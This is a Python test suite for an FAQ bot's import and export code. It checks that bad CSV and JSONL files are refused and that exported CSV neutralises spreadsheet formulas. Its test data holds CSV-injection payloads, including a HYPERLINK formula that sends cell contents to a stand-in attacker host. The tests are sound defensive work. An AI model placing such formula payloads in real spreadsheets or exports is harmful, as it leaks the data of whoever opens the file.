"""Bad FAQ files end in a clear message and change nothing; CSV export is safe to open in a
spreadsheet and still round-trips; no byte sequence makes an importer raise."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import sqlite_utils
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.app import open_database
from knowledge import files
from knowledge.faq import FaqEntry, FaqStore
from knowledge.io import FIELDS, ImportFailed, export_faq, import_faq

FUZZ = settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
GOOD = {
    "id": "q1", "category": "租房", "question": "房东不退押金怎么办", "alternates": "押金",
    "answer": "先协商。", "legal_basis": "", "communities": "", "status": "draft",
}


def csv_bytes(rows: list[dict[str, str]], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(FIELDS)
    writer.writerows([r[f] for f in FIELDS] for r in rows)
    return buffer.getvalue().encode(encoding)


def refused(db: sqlite_utils.Database, path: Path) -> str:
    """Import ``path``, expecting a refusal; assert nothing was stored; return the message."""
    before = FaqStore(db).count()
    with pytest.raises(ImportFailed) as error:
        import_faq(db, path, by="admin")
    assert FaqStore(db).count() == before
    return str(error.value)


def test_a_cell_over_the_csv_limit_is_named_not_a_traceback(
    db: sqlite_utils.Database, tmp_path: Path
) -> None:
    path = tmp_path / "faq.csv"
    path.write_bytes(csv_bytes([{**GOOD, "answer": "长" * 140_000}]))
    message = refused(db, path)
    assert "第 2 行" in message and "超过" in message


@pytest.mark.parametrize("encoding", ["big5", "latin-1"])
def test_big5_and_latin1_are_refused_not_imported_garbled(
    db: sqlite_utils.Database, tmp_path: Path, encoding: str
) -> None:
    words = ["房東不退押金怎麼辦", "租屋", "押金", "請先協商。"]
    if encoding == "latin-1":
        words = ["Café Münchner Straße", "Miete", "Zürich", "Prüfen Sie größer"]
    row = {**GOOD, "question": words[0], "category": words[1], "alternates": words[2],
           "answer": words[3]}
    path = tmp_path / "faq.csv"
    path.write_bytes(csv_bytes([row], encoding))
    message = refused(db, path)
    assert "编码" in message and "UTF-8" in message


def test_jsonl_nested_100000_deep_is_refused(db: sqlite_utils.Database, tmp_path: Path) -> None:
    path = tmp_path / "faq.jsonl"
    path.write_text('{"question": ' + "[" * 100_000 + "]" * 100_000 + "}\n", encoding="utf-8")
    message = refused(db, path)
    assert "第 1 行" in message and "嵌套" in message


def test_an_object_where_text_belongs_is_an_error(db: sqlite_utils.Database,
                                                  tmp_path: Path) -> None:
    path = tmp_path / "faq.jsonl"
    path.write_text(json.dumps({**GOOD, "question": {"a": 1}}) + "\n", encoding="utf-8")
    message = refused(db, path)
    assert "第 1 行" in message and "问题" in message and "对象" in message


def test_a_key_given_twice_is_refused(db: sqlite_utils.Database, tmp_path: Path) -> None:
    path = tmp_path / "faq.jsonl"
    path.write_text('{"question": "甲", "answer": "乙", "question": "丙"}\n', encoding="utf-8")
    message = refused(db, path)
    assert "第 1 行" in message and "出现了两次" in message


def test_too_many_rows_and_too_large_files_are_refused(
    db: sqlite_utils.Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "MAX_ROWS", 3)
    path = tmp_path / "faq.csv"
    path.write_bytes(csv_bytes([{**GOOD, "id": f"q{i}"} for i in range(5)]))
    assert "3 行" in refused(db, path)
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 100)
    assert "文件过大" in refused(db, path)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=already quoted",
]


def test_csv_export_neutralises_formulas_and_round_trips(tmp_path: Path) -> None:
    db = open_database(None)
    store = FaqStore(db)
    for n, text in enumerate(FORMULAS):
        store.add(
            FaqEntry(id=f"f{n}", category="其他", question=f"问题{n}", answer=text.strip("\r\t")
                     if text.startswith(("\t", "\r")) else text, alternates=(text.strip(),)),
            by="t",
        )
    path = tmp_path / "faq.csv"
    export_faq(db, path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in list(csv.reader(f))[1:] for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点此查看\")" in cells
    assert "''=already quoted" in cells
    fresh = open_database(None)
    import_faq(fresh, path, by="t")
    assert [(e.id, *e.content()) for e in FaqStore(fresh).list()] == [
        (e.id, *e.content()) for e in store.list()
    ]


@FUZZ
@given(data=st.binary(max_size=400), suffix=st.sampled_from([".csv", ".jsonl", ".xlsx"]))
def test_no_bytes_make_an_faq_import_raise_anything_but_a_refusal(
    tmp_path: Path, data: bytes, suffix: str
) -> None:
    db = open_database(None)
    path = tmp_path / f"fuzz{suffix}"
    path.write_bytes(csv_bytes([GOOD])[:40] + data)
    try:
        import_faq(db, path, by="fuzz")
    except ImportFailed:
        assert FaqStore(db).count() == 0


@FUZZ
@given(record=st.dictionaries(
    st.sampled_from(FIELDS),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
        max_leaves=8,
    ),
))
def test_no_jsonl_record_makes_an_import_raise(tmp_path: Path, record: dict[str, object]) -> None:
    db = open_database(None)
    path = tmp_path / "fuzz.jsonl"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    try:
        import_faq(db, path, by="fuzz")
    except ImportFailed:
        assert FaqStore(db).count() == 0
